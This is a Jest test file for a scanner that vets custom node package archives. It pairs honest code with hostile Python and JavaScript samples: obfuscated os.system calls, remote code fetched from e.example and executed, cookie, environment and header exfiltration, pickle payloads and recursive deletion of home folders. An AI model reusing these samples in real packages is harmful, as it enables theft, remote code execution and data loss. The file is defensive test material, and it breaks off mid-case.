import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

type Files = string | Record<string, string>;

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-honest-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of an archive's findings, which are sorted by level. */
async function levelOf(files: Files): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

/** A module that binds names, and runs statements in a node. */
const inNode = (before: string, ...statements: string[]): string =>
  `${before}\nclass A:\n    def run(self, x):\n${statements.map((line) => `        ${line}\n`).join('')}NODE_CLASS_MAPPINGS = {"A": A}\n`;

const SETTINGS =
  'import os, shutil\nHERE = os.path.dirname(os.path.abspath(__file__))\nTARGET = os.path.join(HERE, "settings.py")\n';
const OWN = 'import os, requests\nPATH = os.path.join(os.path.dirname(os.path.abspath(__file__))';
const DOWNLOAD = [
  'with open(PATH, "wb") as file:',
  '    for part in requests.get("https://e.example/a", stream=True).iter_content(9): file.write(part)',
];
const script = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
const ASK =
  'import requests\ndef ask(prompt, api_key):\n    headers = {"Authorization": f"Bearer {api_key}"}\n    answer = requests.post("https://api.one.example/v1", headers=headers)\n';
/** A thread that is started at import, and downloads what `wait` answers. */
const worker = (wait: string, after = ''): string =>
  `import queue, requests, threading\ntasks = queue.Queue()\ndef work():\n    while True:\n        ${wait}\n        requests.get(task)\nthreading.Thread(target=work, daemon=True).start()\n${after}\n`;
const FIND =
  'def find(name):\n    module, thing = name.rsplit(".", 1)\n    return getattr(importlib.import_module(module), thing)\n';
const LOAD =
  'import importlib.util, os, pathlib\nHERE = os.path.dirname(__file__)\ndef run(path):\n    spec = importlib.util.spec_from_file_location("a", path)\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    module.run()\n';
const REMOVE =
  'import folder_paths, os, subprocess\nfrom pathlib import Path\nHOST = Path(folder_paths.__file__).parent\nHERE = Path(__file__).parent\ndef remove(path):\n    if os.name != "nt": subprocess.call(["rm", "-rf", path.as_posix()])\n    else: os.system(f\'rmdir /s "{path.as_posix()}"\')\n    for inner in path.iterdir(): remove(inner)\n';
const LOG =
  'import time\nplace = importlib.util.spec_from_file_location("b", os.path.join(HERE, "paths.py")).origin\npath = os.path.join(place or "", f"a_{time.time()}.log")\nopen(path, "a", encoding="utf-8")\n';
const logging = (text: string, file = 'log.ini'): Files => ({
  '__init__.py': `import logging.config\nlogging.config.fileConfig("${file}")\n`,
  [file]: text,
});
/** A large package that downloads weights to a folder. */
const weights = (folder: string): Files => ({
  '__init__.py': `import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self):\n        self.folder = ${folder}\n    def run(self, x):\n        answer = requests.get("https://e.example/a.pth")\n        with open(self.folder / "a.pth", "wb") as file: file.write(answer.content)\nNODE_CLASS_MAPPINGS = {"A": A}\n`,
  'large.py': '# A comment.\n'.repeat(4000),
});
const ANSWER = 'answer = openai.OpenAI().chat.completions.create(model="a")';
const MODELS =
  'import requests\ndef models(base):\n    return requests.get(f"{base}/api/tags", timeout=2).json()["models"]\n';
const COPY_SCRIPTS =
  'import folder_paths, glob, os, shutil\nhere = os.path.dirname(__file__)\ndef copy(file, folder):\n    shutil.copy(os.path.join(here, file), os.path.join(folder, file))\n';
const IMPORT_ALL =
  'import importlib\nfrom pathlib import Path\nfor file in (Path(__file__).parent / "nodes").iterdir():\n    importlib.import_module(f".nodes.{file.stem}", __package__)\n';
const LOAD_LISTED = (folder: string): string =>
  `import importlib.util, json, os\nHERE = os.path.join(os.path.dirname(__file__), ${folder})\nfor name in json.load(open("a.json")):\n    spec = importlib.util.spec_from_file_location("a", os.path.join(HERE, name + ".py"))\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n`;
const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return ';

describe('the checks accept the honest use, and hold the hostile one, of', () => {
  it.each<[string, { honest: Files; hostile: readonly Files[] }]>([
    [
      'functions in a list',
      {
        honest:
          'import functools, torch\nTYPES = [getattr(torch, "float" + "16")]\nfunctools.reduce(lambda v, s: s(v), [str.strip, len], "a")\n',
        hostile: [
          'import functools, os\nfunctools.reduce(lambda v, s: s(v), [str.strip, getattr(os, "sys" + "tem")], "id")\n',
          'import urllib.request\nlist(map(lambda f: f("https://e.example/a"), [urllib.request.urlopen]))\n',
          'import os\nglobals().update({k: getattr(os, k) for k in dir(os) if k.startswith("sys")})\nsystem("id")\n',
        ],
      },
    ],
    [
      'data that a library downloads from its own server by a name',
      {
        honest: 'import nltk\ntry: nltk.data.find("tokenizers/punkt")\nexcept LookupError: nltk.download("punkt")\n',
        hostile: ['import nltk\nnltk.download("https://e.example/punkt.zip")\n'],
      },
    ],
    [
      'reversed texts that are run',
      {
        honest: inNode('import numexpr', 'numexpr.evaluate(x[::-1].replace("a", "", 1)[::-1])'),
        hostile: [inNode('', 'exec("(\'di\')metsys.so ;so tropmi"[::-1])')],
      },
    ],
    [
      'code of a model that is run',
      {
        honest: inNode('import openai', ANSWER.replace('()', '(api_key=x)'), 'exec(answer.choices[0].message.content)'),
        hostile: [
          inNode(
            'import openai',
            ANSWER.replace('()', '(base_url="https://e.example/v1")'),
            'exec(answer.choices[0].message.content)',
          ),
        ],
      },
    ],
    [
      'methods that a special method calls',
      {
        honest:
          'import os\nclass Job:\n    def __call__(self): return self.body()\nclass Own(Job):\n    def body(self): return os.getpid()\nOwn()()\n',
        hostile: [
          'import os\nclass Job:\n    def __call__(self): return self.body()\nclass Own(Job):\n    def body(self): os.system("id")\nOwn()()\n',
          'import os\nclass Job:\n    def __enter__(self): return self.body()\n    def __exit__(self, *a): pass\nclass Own(Job):\n    def body(self): os.system("id")\nwith Own(): pass\n',
          'import os\nALL = []\nclass Meta(type):\n    def __init__(cls, *a): ALL.append(cls)\nclass Own(metaclass=Meta):\n    def go(self): os.system("id")\nALL[0]().go()\n',
        ],
      },
    ],
    [
      'the module of a built-in function',
      {
        honest: 'import os\nNAME = os.getcwd.__self__.__name__\n',
        hostile: ['import os\nos.getcwd.__self__.system("id")\n', 'def f(): ...\nf.__builtins__["exec"]("import a")\n'],
      },
    ],
    [
      'parts of an address',
      {
        honest: script(
          'const u = new URL(location.href); u.search = "a=" + localStorage.getItem("theme"); fetch(u); history.replaceState(null, "", u);',
        ),
        hostile: [
          script('const u = new URL(location.href); u.host = "e.example"; u.search = document.cookie; fetch(u);'),
          script(
            'const u = new URL("/a", location.origin); u.hostname = "e.example"; u.hash = document.cookie; fetch(u);',
          ),
        ],
      },
    ],
    [
      'scripts that the manager of the host runs',
      {
        honest: {
          '__init__.py': '',
          'uninstall.py': 'import subprocess\nsubprocess.check_call(["attrib", "-R", "web", "/S"])\n',
        },
        hostile: ['uninstall.py', 'disable.py', 'enable.py'].map((name) => ({
          '__init__.py': '',
          [name]: 'import urllib.request\nexec(urllib.request.urlopen("https://e.example/a").read())\n',
        })),
      },
    ],
    [
      'further libraries',
      {
        honest: 'from PIL import ImageMath\nimport grpc\nADD = ImageMath.lambda_eval\nCODE = grpc.StatusCode.OK\n',
        hostile: [
          'import os\nimport paho.mqtt.publish as publish\npublish.single("a", str(dict(os.environ)), hostname="e.example")\n',
          'import grpc\ngrpc.insecure_channel("e.example:443")\n',
          'from PIL import ImageMath\nImageMath.unsafe_eval("exec(\'import a\')")\n',
        ],
      },
    ],
    [
      'files that a list names, next to scripts in a hidden folder',
      {
        honest: { '__init__.py': LOAD_LISTED('"nodes"'), '.github/py/a.py': 'import os\nos.system("a")\n' },
        hostile: [
          { '__init__.py': LOAD_LISTED('".github", "py"'), '.github/py/a.py': 'import os\nos.system("a")\n' },
          { '__init__.py': LOAD_LISTED('"py"'), 'py/a.py': 'import os\nos.system("a")\n' },
        ],
      },
    ],
    [
      'statements after a lambda that makes a list',
      {
        honest: inNode('import os', 'x.sort(key=lambda p: [int(t) for t in p])', 'if x: return os.listdir("a")'),
        hostile: [
          'class A:\n    key = lambda p: [int(t) for t in p]\n    from os import system as run\n    run("a")\n',
          'class A:\n    key = lambda p: [int(t) for t in p]\n    import os\n    if os: os.system("a")\n',
        ],
      },
    ],
    [
      'imports by computed names, next to scripts in a folder with the name of an imported module',
      {
        honest: {
          '__init__.py': `from .lib.utils.plot import draw\n${IMPORT_ALL}`,
          'lib/utils/plot.py': 'def draw(): pass\n',
          'nodes/a.py': 'x = 1\n',
          'other/utils/extract.py': 'import os\nos.system("rm -r /videos")\n',
        },
        hostile: [
          { '__init__.py': IMPORT_ALL, 'nodes/a.py': 'import os\nos.system("id")\n' },
          {
            '__init__.py': `folder = "other/utils"\n${IMPORT_ALL.replace('.nodes.', '.{folder.replace("/", ".")}.')}`,
            'other/utils/a.py': 'import os\nos.system("id")\n',
          },
        ],
      },
    ],
    [
      'imports of all files of one folder, next to scripts outside of it',
      {
        honest: {
          '__init__.py': `${IMPORT_ALL}name = "download"\n`,
          'nodes/a.py': 'x = 1\n',
          'nodes/library/tool.py': 'import os\nos.system("tool")\n',
          'download.py': 'import os\nos.system("curl https://e.example")\n',
        },
        hostile: [
          '{__name__}.{file.stem}',
          '{__package__}{file.stem}',
          '.{file.stem}.nodes.a',
          '..{file.stem}',
          '{NODES}{file.stem}',
        ].map((name) => ({
          '__init__.py': `NODES = "."\nif len(NODES): NODES = ".other."\n${IMPORT_ALL.replace('.nodes.{file.stem}', name)}`,
          'nodes/download.py': 'x = 1\n',
          'download.py': 'import os\nos.system("id")\n',
        })),
      },
    ],
    [
      'classes named by an item of settings, which may be a text, too',
      {
        honest: `import importlib\ndef get(s):\n    m, c = s.rsplit(".", 1)\n    return getattr(importlib.import_module(m), c)\ndef make(config):\n    return get(config["target"])(**config.get("params", {}))\nclass A:\n    def run(self): return make("own.modules.of.diffusion.Wrapper")\n`,
        hostile: [
          'letters = "abcdefghijklmnopqrstuvwxyz"\nimport importlib\nk = 14\nm = letters[k] + letters[18]\ngetattr(importlib.import_module(m), letters[18] + letters[k + 10])("id")\n',
        ],
      },
    ],
    [
      'files without code that make a folder a package',
      {
        honest: `import os\nD = os.path.dirname(__file__)\nopen(os.path.join(D, "__init__.py"), "w").close()\nwith open(os.path.join(D, "more", "__init__.py"), "w") as f:\n    f.write("# A package.\\n")\n    f.write("")\n`,
        hostile: ['    f.write("# A\\nimport x\\n")', '    f.write(TEXT)', '    f.write(f"#{TEXT}")', '    use(f)'].map(
          (written) =>
            `import os\nfrom more import TEXT, use\nwith open(os.path.join(os.path.dirname(__file__), "__init__.py"), "w") as f:\n${written}\n`,
        ),
      },
    ],
    [
      'methods whose names begin and end with an underscore',
      {
        honest: 'import os\nclass A:\n    def _convert_(self, n): os.system("ffmpeg " + n)\na = A()\n',
        hostile: [
          'import os\nfrom enum import Enum\nclass A(Enum):\n    B = 1\n    @classmethod\n    def _missing_(cls, n): os.system("id")\n',
          'import os\nclass A:\n    def _convert_(self): os.system("id")\n    def __init__(self): self._convert_()\na = A()\n',
        ],
      },
    ],
    [
      'requests at import to a model server on the same machine',
      {
        honest: `${MODELS}class A:\n    base = "http://localhost:11434"\n    names = models(base)\n`,
        hostile: [
          `${MODELS}models("http://localhost:11434" + "@e.example")\n`,
          `${MODELS}models("http://localhost:11434")\nmodels("https://e.example")\n`,
          `${MODELS}models(open("a").read())\nmodels("http://localhost:11434")\n`,
          'import requests\nrequests.get("http://127.0.0.1:8188/manager/install")\n',
          'import requests\nrequests.post("http://localhost:11434/api/pull", json={})\n',
        ],
      },
    ],
    [
      'copies of own scripts into the folder of the host for scripts of the browser',
      {
        honest: `${COPY_SCRIPTS}web = os.path.join(folder_paths.base_path, "web", "extensions", "a")\nfor file in os.listdir(here): copy(file, web)\nfor file in glob.glob("*.py"): copy(file, web)\n`,
        hostile: [
          `${COPY_SCRIPTS}copy("a.py", os.path.join(folder_paths.base_path, "web", "extensions", "..", "..", "custom_nodes"))\n`,
          `${COPY_SCRIPTS}copy("a.py", os.path.join(folder_paths.base_path, "custom_nodes", "web"))\n`,
        ],
      },
    ],
    [
      'commands of which the last character is cut',
      {
        honest: inNode('import subprocess', 'for line in open(x): subprocess.run(line[:-1], shell=True)'),
        hostile: [
          inNode('import subprocess', 'for line in open(x): subprocess.run(line[::-1], shell=True)'),
          '__import__("osX"[:-1]).system("id")\n',
          'import os\ngetattr(os, "Xsystem"[1:])("id")\n',
          inNode('import subprocess', 'subprocess.run("curl https://e.example | shX"[:-1], shell=True)'),
          '__import__("oxsx"[::2]).system("id")\n',
          'import os\nn = 1\ngetattr(os, "Xsystem"[n:])("id")\n',
          'import os\ngetattr(os, "\\U0001f600system"[1:])("id")\n',
        ],
      },
    ],
    [
      'logs in a folder that another file names',
      {
        honest: {
          '__init__.py': `${LOAD}run(os.path.join(HERE, "paths.py"))\n${LOG}`,
          'paths.py': 'def run(): pass\n',
        },
        hostile: [
          {
            '__init__.py': `${LOAD}run(os.path.join(HERE, "paths.py"))\n${LOG.replace('.log', '.py')}`,
            'paths.py': 'def run(): pass\n',
          },
          'import time\npath = "a.py" if time.time() > 9 else f"{time.time()}.log"\nopen(path, "w").write("a")\n',
        ],
      },
    ],
    [
      'commands that remove files of the package or the host',
      {
        honest: `${REMOVE}remove(HOST.joinpath("web", "a"))\n${inNode('', 'remove(HERE / x)')}`,
        hostile: [
          `${REMOVE}remove(HOST.joinpath("web", "a"))\nremove(Path.home() / "Documents")\n`,
          `${REMOVE}remove(Path(os.environ["HOME"]))\n`,
          `${REMOVE}remove(HOST)\n`,
          `${REMOVE}remove(HERE / ".." / "other")\n`,
          `${REMOVE}remove(Path(__file__).parent.parent / "other")\n`,
          `${REMOVE}remove(HERE.parent / "other")\n`,
          `${REMOVE}remove(Path(__file__).parents[1] / "other")\n`,
          `${REMOVE}folder = os.path.dirname(__file__)\nremove(Path(os.path.dirname(folder)) / "other")\n`,
          `${REMOVE.replaceAll('rm', 'sh')}remove(HERE / "a")\n`,
          `${REMOVE.replace('rmdir /s', 'rmdir /s a;')}remove(HERE / "a")\n`,
          `${REMOVE.replace('"-rf", path', '"-rf", path, open("a").read()')}remove(HERE / "a")\n`,
          'import os\nos.system("rmdir a")\n',
        ],
      },
    ],
    [
      'items of a list',
      {
        honest: 'import subprocess, sys\nsubprocess.run(["git status", "rm a"][0].split())\n',
        hostile: [
          'import subprocess, sys\nsubprocess.run(["git status", "rm a"][1].split())\n',
          'import subprocess, sys\nsubprocess.run(["git status", "rm a"][len(sys.argv)].split())\n',
        ],
      },
    ],
    [
      'folders that a node is given, by default none',
      {
        honest: inNode('import glob, os', 'self.find("", "")').replace(
          '    def run',
          '    def find(self, folder, pattern): return glob.glob(os.path.join(folder, pattern))\n    def run',
        ),
        hostile: [
          inNode('import glob, os', 'self.find("", "/")').replace(
            '    def run',
            '    def find(self, folder, pattern): return glob.glob(os.path.join(folder, pattern))\n    def run',
          ),
        ],
      },
    ],
    [
      'scripts in a folder that is not served',
      {
        honest: {
          '__init__.py': 'WEB_DIRECTORY = "./web"\n',
          '.tests/a.mjs': 'import(`data:text/javascript,${source}`)',
        },
        hostile: [
          {
            '__init__.py': 'WEB_DIRECTORY = "./.tests"\n',
            '.tests/a.mjs': 'import(`data:text/javascript,${source}`)',
          },
        ],
      },
    ],
    [
      'replaced methods of a client',
      {
        honest:
          'import requests\nold = requests.Session.send\ndef send(self, request, **options):\n    options.setdefault("timeout", 9)\n    return old(self, request, **options)\nrequests.Session.send = send\n',
        hostile: [
          'import requests\nold = requests.Session.send\ndef send(self, request, **options):\n    old(self, requests.Request("POST", "https://e.example/", json=dict(request.headers)).prepare())\n    return old(self, request, **options)\nrequests.Session.send = send\n',
          'import requests\nold = requests.Session.request\ndef request(self, method, url, **options):\n    old(self, "POST", "https://e.example/", json=options)\n    return old(self, method, url, **options)\nrequests.Session.request = request\n',
        ],
      },
    ],
    [
      'the type of functions',
      {
        honest:
          'import json, os\nFunction = type(lambda: 0)\nSETTINGS = json.load(open(os.path.join(os.path.dirname(__file__), "a.json")))\ndef f(x): return isinstance(x, Function)\n',
        hostile: [
          'import json, os\nFunction = type(lambda: 0)\ntext = json.load(open(os.path.join(os.path.dirname(__file__), "a.json")))["a"]\nFunction(compile(text, "a", "exec"), {})()\n',
        ],
      },
    ],
    [
      'a copy of an example of settings',
      {
        honest: {
          '__init__.py': `${SETTINGS}if not os.path.exists(TARGET): shutil.copyfile(os.path.join(HERE, "settings.example.py"), TARGET)\n`,
          'settings.example.py': '# Your settings.\nAPI_KEY = ""\nSCALE = 1.5\n',
        },
        hostile: [
          {
            '__init__.py': `${SETTINGS}shutil.copyfile(os.path.join(HERE, "settings.example.py"), TARGET)\n`,
            'settings.example.py': 'import os\nos.system("a")\n',
          },
        ],
      },
    ],
    [
      'a folder on the search path',
      {
        honest: {
          '__init__.py': 'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))\n',
          'lib/test.py': 'import os\nos.system("a")\n',
          'lib/measure.py': 'import os\nos.system("a")\n',
          'other/numpy.py': 'import os\nos.system("a")\n',
        },
        hostile: [
          {
            '__init__.py': 'import os, sys\nsys.path.append(os.path.dirname(__file__) + "/lib")\n',
            'lib/numpy/__init__.py': 'import os\nos.system("a")\n',
          },
        ],
      },
    ],
    [
      'settings that are written as constants',
      {
        honest: `${SETTINGS}with open(TARGET, "w") as file:\n    file.write('# Your settings.\\nAPI_KEY = ""\\n')\n`,
        hostile: [
          `${SETTINGS}with open(TARGET, "w") as file:\n    file.write('import os\\nos.system("a")\\n')\n`,
          `${SETTINGS}import pathlib\npathlib.Path(TARGET).write_text('A = open("a")')\n`,
          `${SETTINGS}with open(TARGET, "w") as file:\n    file.write('# coding: utf-7\\nA = 1\\n')\n`,
        ],
      },
    ],
    [
      'functions that settings name',
      {
        honest:
          'from pydoc import locate\ndef f(name): return locate(name)()\nTYPES = {"a": "int", "b": "float"}\nVALUES = {key: locate(name)("3") for key, name in TYPES.items()}\n',
        hostile: [
          'import json\nfrom pydoc import locate\nfor hook in json.load(open("a.json")): locate(hook["call"])(*hook["args"])\n',
          'import string\nfrom pydoc import locate\nlocate("os.syste" + string.ascii_lowercase[12])("id")\n',
          'from pydoc import locate\nNAMES = {"a": "int", "b": "eval"}\nfor name in NAMES.values(): locate(name)("1")\n',
          'import json, pkgutil\nfor hook in json.load(open("a.json")): pkgutil.resolve_name(hook["call"])(*hook["args"])\n',
        ],
      },
    ],
    [
      'configurations of logging',
      {
        honest: logging(
          [
            '[handler_a]\n# compile(the docs) first\nclass=handlers.RotatingFileHandler',
            'args=(os.path.join(tempfile.gettempdir(), "{}.log".format(os.getpid())), "Error(s) in eval/vars", 1000)  # rotate(daily)',
            '[handler_b]\nclass=logging.FileHandler',
            "args=(__import__('datetime').datetime.now().strftime('%%Y.log'),)",
            '[formatter_c]\nformat=%(asctime)s compile (x)\n',
          ].join('\n'),
        ),
        hostile: [
          '[handler_a]\nclass=StreamHandler\nargs=(os.system("id"),)\n',
          ' [handler_a]\n class=StreamHandler\n args=(os .system("id"),)\n',
          '[handler_a]\nclass=os . system\nargs=("id",)\n',
          ' [handler_a]\n args=("id",)\n class=\n   os.system\n',
          '[handler_a]\nclass=StreamHandler\nARGS=(os.system("id"),)\n',
          '[handler_a]\nclass=StreamHandler\nx=os.system("id")\nargs=(%(x)s,)\n',
          '[DEFAULT]\nx=os.system("id")\n[handler_a]\nclass=StreamHandler\nargs=(%(x)s,)\n',
          '[handler_a]\nclass=[os.system][0]\nargs=("id",)\n',
          '[handler_a]\nclass=eval\nargs=("1",)\n',
          '[handler_a]\nclass=StreamHandler\nargs=(1,\n\n  # a\n  [os.system("id")]],)\n',
          '[handler_a]\nclass=StreamHandler\nargs=(os.system #str\n  ("id"),)\n',
          '[handler_a]\nclass=StreamHandler\nargs=(os.syste\uff4d("id"),)\n',
          `[handler_a]\n${'# a\n'.repeat(1000)}class=StreamHandler\nargs=(os.system("id"),)\n`,
          '[handler_a]\nclass=StreamHandler\nargs=(traceback.sys.modules["os"].popen("id"),)\n',
          `[formatter_a]\nformat=${'aa() '.repeat(600)}\n[handler_a]\nkwargs={"a":\n  os.system("id")}\n`,
        ]
          .map((text) => logging(text))
          .concat([logging('', 'log.txt')]),
      },
    ],
    [
      'copies of functions',
      {
        honest: `${COPY}types.FunctionType(f.__code__, f.__globals__, name=f.__name__)\ncopy(f)()\n`,
        hostile: [
          `${COPY}types.FunctionType(f.__code__, vars(os))\ncopy(f)()\n`,
          `${COPY}types.FunctionType(f.__code__.replace(co_code=b"abc"), f.__globals__)\ncopy(f)()\n`,
          'import os, types\ndef f():\n    os.system("a")\ntypes.FunctionType(f.__code__, f.__globals__)()\n',
          `import types\n${Array.from({ length: 30 }, (_, index) => `def f${index}(): pass\n`).join('')}codes = [f.__code__ for f in [${Array.from({ length: 30 }, (_, index) => `f${index}`).join(', ')}]]\ncodes.append(compile(open("x").read(), "", "exec"))\ntypes.FunctionType(codes[-1], globals())()\n`,
        ],
      },
    ],
    [
      'folders of imports that a parameter names',
      {
        honest: inNode(
          'import os, sys\ndef add(path):\n    sys.path.append(os.path.dirname(path))',
          'for path in ["a.txt", "b/c.py", "d.json", "e.yaml", "f.toml", "g.py", "h.py"]: add(path)',
        ),
        hostile: [
          inNode('import os, sys', 'sys.path.append(os.path.join("a", "b", "c", "d", "e", "x.zip"))'),
          'import os, sys\nP = "x.zip"\nsys.path.append(os.path.join("a", "b", "c", "d", "e", P))\n',
        ],
      },
    ],
    [
      'commands with values that were decoded',
      {
        honest: inNode(
          'import subprocess',
          'name = x[::-1]',
          'command = "ffmpeg -i %s" % name',
          'subprocess.run(command, shell=True)',
        ),
        hostile: [
          inNode(
            'import subprocess',
            'name = x[::-1]',
            'command = "true; %s" % name',
            'subprocess.run(command, shell=True)',
          ),
          inNode(
            'import subprocess',
            'name = x[::-1]',
            'command = "sh %s" % name',
            'subprocess.run(command, shell=True)',
          ),
          inNode(
            'import subprocess',
            'name = x[::-1]',
            'command = "a b" * 0 + name',
            'subprocess.run(command, shell=True)',
          ),
          inNode(
            'import subprocess',
            'command = "ffmpeg -i %s" % x[::-1]',
            'if (command := x[::-1]): pass',
            'subprocess.run(command, shell=True)',
          ),
          inNode(
            'import base64, subprocess, zlib',
            'code = zlib.decompress(base64.b64decode("eJxLLi1Kyk8BAAqkAp8aBcDeFG")).decode()',
            'command = "true %s" % code',
            'subprocess.run(command, shell=True)',
          ),
        ],
      },
    ],
    [
      'weights in a .pth file of the folder of models',
      {
        honest: inNode(
          'import folder_paths, glob, os, requests\nPATH = os.path.join(folder_paths.models_dir, "x.pth")',
          ...DOWNLOAD,
        ),
        hostile: [inNode('import os, requests, sys\nPATH = os.path.join(sys.path[-1], "x.pth")', ...DOWNLOAD)],
      },
    ],
    [
      'weights in a .pth file of the own folder',
      {
        honest: inNode(`${OWN}, "weights.pth")`, ...DOWNLOAD),
        hostile: [
          inNode(`${OWN}, "../../../x.pth")`, ...DOWNLOAD),
          inNode(`${OWN}, "python_embeded", "x.pth")`, ...DOWNLOAD),
          inNode(`import site\n${OWN}, site.getsitepackages()[0], "x.pth")`, ...DOWNLOAD),
          inNode(`import torch\n${OWN}, torch.__path__[0], "x.pth")`, ...DOWNLOAD),
          inNode('import requests\nPATH = "x.pth"', ...DOWNLOAD),
          inNode('import requests, sysconfig\nPATH = sysconfig.get_path("purelib") + "/x.pth"', ...DOWNLOAD),
          inNode(
            'import os, requests, torch\nPATH = os.path.dirname(os.path.dirname(torch.__file__)) + "/x.pth"',
            ...DOWNLOAD,
          ),
          {
            '__init__.py': inNode('import os, requests\nfrom .b import FOLDER\nPATH = FOLDER + "/x.pth"', ...DOWNLOAD),
            'b.py': 'import site\nFOLDER = site.USER_SITE\n',
          },
          inNode(`${OWN}, "x.py")`, ...DOWNLOAD),
        ],
      },
    ],
    [
      'service workers',
      {
        honest: script('navigator.serviceWorker.register("/api/my-nodes/sw.js").then(() => 1)\n'),
        hostile: [
          script('navigator.serviceWorker.register("/sw.js")\n'),
          script('navigator.serviceWorker.register("./sw.js")\n'),
          script('navigator.serviceWorker.register("/a/../sw.js")\n'),
          script('navigator.serviceWorker.register("/api/my-nodes/sw.js", { scope: "/" })\n'),
          script('navigator.serviceWorker.register("/a/sw.js");\nnavigator.serviceWorker.register("/sw.js")\n'),
        ],
      },
    ],
    [
      'blocks that never run',
      {
        honest: 'import os\nif False:\n    os.system("a")\nelif False:\n    os.system("b")\n',
        hostile: [
          'import os\nif False:\n    pass\nelse:\n    os.system("a")\n',
          'import os\nif False or os:\n    os.system("a")\n',
          'import os\nif not False:\n    os.system("a")\n',
        ],
      },
    ],
    [
      'numbers that are meant as powers',
      {
        honest: inNode('import subprocess', 'seed = 2^32-1', 'subprocess.run(f"{x} --seed {seed}", shell=True)'),
        hostile: [
          inNode('import subprocess', 'subprocess.run(str(x ^ 32), shell=True)'),
          inNode('import subprocess', 'subprocess.run(chr(2^96) + chr(2^98), shell=True)'),
          inNode('', 'exec(bytes([2^96, 10^98]))'),
        ],
      },
    ],
    [
      'threads that wait for a queue',
      {
        honest: inNode(worker('task = tasks.get()'), 'tasks.put(x)'),
        hostile: [
          worker('task = tasks.get()', 'tasks.put("https://e.example/a")'),
          worker('task = tasks.get()', 'def fill(): tasks.put_nowait("a")\nthreading.Timer(9, fill).start()'),
          worker('task = tasks.get()', 'getattr(tasks, "pu" + "t")("a")'),
          worker('task = tasks.get()', 'import operator\noperator.methodcaller("put", "a")(tasks)'),
          worker('task = tasks.get()', 'tasks.queue.append("a")'),
          worker('task = tasks.get(timeout=9)'),
          worker('task = tasks.get_nowait()'),
          worker('if x: task = tasks.get()'),
          worker('try: task = tasks.get()\n        except Exception: pass'),
          worker('lambda: tasks.get()'),
        ],
      },
    ],
    [
      'classes that are found by their names',
      {
        honest: {
          '__init__.py': `import importlib\n${FIND}find("pack.b.B" if find else None)()\ndef later(x): find(x)\n`,
          'pack/b.py': 'class B: pass\ndef __getattr__(name): return globals()[name]\n',
          'pack/c.py': 'import os\nos.system("a")\n',
        },
        hostile: [
          `import importlib\n${FIND}find("os.system")("a")\n`,
          `import importlib\n${FIND}find(open("a").read())("a")\n`,
          {
            '__init__.py': `import importlib\n${FIND}find("pack.b.B")()\n`,
            'pack/b.py': 'import os\nos.system("a")\n',
          },
          { '__init__.py': `import importlib\n${FIND}find(open("a").read())\n`, 'c.py': 'import os\nos.system("a")\n' },
        ],
      },
    ],
    [
      'pickles of some classes only',
      {
        honest: inNode(
          'import base64, io, pickle\nclass Safe(pickle.Unpickler):\n    def find_class(self, module, name):\n        if module != "a": raise ValueError(name)\n        return super().find_class(module, name)',
          'Safe(io.BytesIO(base64.b64decode(x))).load()',
        ),
        hostile: [
          inNode(
            'import base64, io, pickle\nclass Open(pickle.Unpickler):\n    def find_class(self, module, name):\n        return super().find_class(module, name)',
            'Open(io.BytesIO(base64.b64decode("gASVHAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))).load()',
          ),
        ],
      },
    ],
    [
      'own files that are loaded by their paths',
      {
        honest: {
          '__init__.py': `${LOAD}run(os.path.join(HERE, "lib", "a.py"))\n`,
          'lib/a.py': 'def run(): pass\n',
          'b.py': 'import os\nos.system("a")\n',
        },
        hostile: [
          {
            '__init__.py': `${LOAD}run(os.path.join(HERE, "lib", "a.py"))\n`,
            'lib/a.py': 'import os\ndef run(): os.system("a")\n',
          },
          {
            '__init__.py': `${LOAD}run(str(pathlib.Path(HERE) / "lib" / "a.py"))\n`,
            'lib/a.py': 'import os\nos.system("a")\n',
          },
          {
            '__init__.py': `${LOAD}run(os.path.join(HERE, "lib", "a.py", "..", open("x").read()))\n`,
            'lib/a.py': 'def run(): pass\n',
            'b.py': 'import os\nos.system("a")\n',
          },
        ],
      },
    ],
    [
      'machine code of graphics cards',
      {
        honest: `import ctypes\nctypes.CDLL("libnvidia-ml.so.1")\n${inNode('', 'lib = ctypes.CDLL(x)', 'getattr(lib, x)()')}`,
        hostile: [
          'import ctypes\nctypes.CDLL("libother.so")\n',
          'import ctypes\ngetattr(ctypes.CDLL("libnvml.so"), open("a").read())()\n',
        ],
      },
    ],
    [
      'a decorator of harmless and other functions',
      {
        honest:
          'import functools, requests\ndef retry(times):\n    def decorate(f):\n        @functools.wraps(f)\n        def w(*a):\n            for _ in range(times): return f(*a)\n        return w\n    return decorate\n@retry(3)\ndef scan(): return []\n@retry(3)\ndef fetch(u): return requests.get(u)\nscan()\n',
        hostile: [
          'import requests\ndef keep(f):\n    def w(*a): return f(*a)\n    return w\ndef fetch(): return requests.get("https://a.example")\nlist(map(keep, [fetch]))[0]()\n',
        ],
      },
    ],
    [
      'pointers to own data, and the system’s library of a graphics card',
      {
        honest:
          'import ctypes\nctypes.WinDLL("ze_loader.dll")\ndata = (ctypes.c_uint8 * 8)()\nctypes.cast(data, ctypes.POINTER(ctypes.c_uint32))[0] = 1\n',
        hostile: [
          'import ctypes\ndata = (ctypes.c_uint8 * 8)()\nctypes.cast(data, ctypes.CFUNCTYPE(ctypes.c_int))()\n',
          'import ctypes, os\nctypes.WinDLL(os.path.join(os.path.dirname(__file__), "ze_loader.dll"))\n',
        ],
      },
    ],
    [
      'a token for a service, which a program of the service writes when a node runs',
      {
        honest: inNode('import subprocess', 'return subprocess.check_output(["gcloud", "auth", "print-access-token"])'),
        hostile: [
